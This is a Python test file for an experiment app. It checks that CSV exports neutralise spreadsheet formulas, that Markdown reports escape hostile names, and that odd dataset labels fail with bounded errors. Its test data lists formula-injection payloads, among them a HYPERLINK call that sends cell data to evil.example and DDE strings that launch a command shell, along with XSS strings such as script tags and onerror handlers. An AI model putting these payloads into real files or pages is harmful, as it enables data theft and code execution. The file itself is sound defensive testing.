"""Exported CSVs and Markdown reports neutralise spreadsheet formulas and Markdown/HTML in
user-supplied cells and names (issue 14, item 8); unusual dataset labels never crash and
errors quote them bounded."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from types import SimpleNamespace

import altair as alt
import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from app.views.figure_kit.export import export
from app.views.figure_kit.figure import Figure
from app.views.frames import save_tables
from icl_heads.cli.experiments import write_outputs
from model_worker.common.errors import UserInputError
from model_worker.common.export_text import FORMULA_START, csv_cell, csv_text, markdown_text
from model_worker.contracts.experiments import ExperimentResult
from model_worker.datasets import DatasetError, load_user_dataset
from model_worker.experiments.report import header, table
from model_worker.service.jobs import MAX_ERROR_CHARS, failure_message

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1, "click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def parsed(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def starts_formula(cell: str) -> bool:
    """A text cell a spreadsheet would run (a number such as -1.5 is a number)."""
    try:
        float(cell)
    except ValueError:
        return cell.startswith(FORMULA_START)
    return False


@pytest.mark.parametrize("payload", FORMULAS)
def test_every_csv_exporter_neutralises_formulas(payload: str, tmp_path: Path) -> None:
    rows = [{"label": payload, "value": -1.5, payload: "x"}]
    figure_csv = export(Figure(stem="s", title="t", rows=rows, chart=alt.Chart()), "csv")
    result = ExperimentResult(
        name="accuracy",
        model="m",
        dataset="d",
        n=1,
        seed=0,
        metrics={},
        tables={"per_class": rows},
        figures={},
        report_markdown="",
    )
    cli_csv = (
        next(p for p in write_outputs(result, tmp_path) if p.suffix == ".csv").read_bytes().decode()
    )
    notebook_csv = save_tables(result, tmp_path / "notebook")[0].read_bytes().decode()
    for text in (figure_csv, cli_csv, notebook_csv, csv_text(rows)):
        cells = [cell for row in parsed(text) for cell in row]
        assert not any(starts_formula(cell) for cell in cells), cells
        assert "'" + payload in cells and "-1.5" in cells  # text kept, numbers stay numbers


@given(
    st.lists(
        st.dictionaries(st.sampled_from("abc"), st.text(max_size=20) | st.floats()), max_size=5
    )
)
def test_csv_cells_round_trip_and_never_start_a_formula(rows: list[dict[str, object]]) -> None:
    text = csv_text(rows)
    if not rows or not any(rows):
        return
    body = parsed(text)[1:]
    for cells in body:
        assert not any(starts_formula(cell) for cell in cells), cells
    assert all(csv_cell(v) == v for v in (1, -2.5, None, "plain"))


HOSTILE_NAMES = [
    "[click](javascript:alert(1))",
    "![x](http://evil.example/beacon.png)",
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "a | b | c",
    "`code` ** bold ** _em_",
    "line\n# heading\n| x | y |",
    "&lt;b&gt;",
]
_render = MarkdownIt("commonmark", {"html": True}).enable("table")


@given(st.text(max_size=40) | st.sampled_from(HOSTILE_NAMES))
def test_markdown_text_renders_as_exactly_its_text(value: str) -> None:
    html = _render.render(f"before {markdown_text(value)} after")
    assert "<a " not in html and "<img" not in html and "<script" not in html
    assert "<code>" not in html and "<em>" not in html and "<strong>" not in html


@pytest.mark.parametrize("name", HOSTILE_NAMES)
def test_reports_show_labels_and_file_names_as_text(name: str) -> None:
    ctx = SimpleNamespace(
        loaded=SimpleNamespace(name="model"),
        dataset=SimpleNamespace(name=name),
        n=10,
        seed=0,
    )
    report = header(ctx, "Title") + "\n" + table([{"label": name, "accuracy": 0.5}])  # type: ignore[arg-type]
    html = _render.render(report)
    assert "<a " not in html and "<img" not in html and "<script" not in html
    rows = html.count("<tr>")
    assert rows == 2  # the header row and one row: no cell opened another
    assert "<h1>" in html and html.count("<h1>") == 1


# --- unusual dataset labels --------------------------------------------------------------


def csv_file(labels: list[str]) -> bytes:
    body = "".join(f"text {i} of {n},{label}\n" for n, label in enumerate(labels) for i in range(3))
    return ("text,label\n" + body).encode()


@pytest.mark.parametrize(
    "labels",
    [
        ["²", "³"],  # superscript digits: isdigit() but int() refuses them
        ["٣", "7"],  # Arabic-Indic three
        ["1" * 5000, "2"],  # int() refuses 4,300+ digits
        ["9" * 80, "10"],
        ["00", "0"],
    ],
)
def test_unusual_labels_load_or_fail_with_a_reason(labels: list[str]) -> None:
    try:
        dataset = load_user_dataset(csv_file(labels), filename="d.csv")
    except DatasetError as exc:
        assert len(str(exc)) < 300
        return
    assert set(dataset.classes) == set(labels)


def test_numeric_labels_sort_numerically_and_others_after() -> None:
    dataset = load_user_dataset(csv_file(["10", "9", "b", "²", "0"]), filename="d.csv")
    assert dataset.classes == ("0", "9", "10", "b", "²")


def test_huge_json_numbers_are_a_dataset_error() -> None:
    line = '{"text": "t%d", "label": %s}\n'
    data = "".join(line % (i, "1" * 5000) for i in range(3)).encode()
    with pytest.raises(DatasetError, match="line 1"):
        load_user_dataset(data, filename="d.jsonl")


digits = st.text(st.characters(categories=("Nd", "No", "Nl")), min_size=1, max_size=8)


@given(
    st.lists(
        st.text(min_size=1, max_size=30) | st.integers().map(str) | digits, min_size=2, max_size=4
    )
)
def test_any_labels_load_or_raise_only_dataset_errors(labels: list[str]) -> None:
    clean = [label.replace(",", "").replace('"', "") for label in labels]
    try:
        load_user_dataset(csv_file(clean), filename="d.csv")
    except DatasetError as exc:
        assert len(str(exc)) < 400


def test_long_labels_are_refused_and_quoted_bounded() -> None:
    with pytest.raises(DatasetError) as caught:
        load_user_dataset(csv_file(["x" * 100_000, "y"]), filename="d.csv")
    assert len(str(caught.value)) < 200


def test_stored_failure_messages_are_bounded() -> None:
    message = failure_message(UserInputError("label(s) " + repr("z" * 100_000) + " do not occur"))
    assert len(message) == MAX_ERROR_CHARS and message.endswith("…")
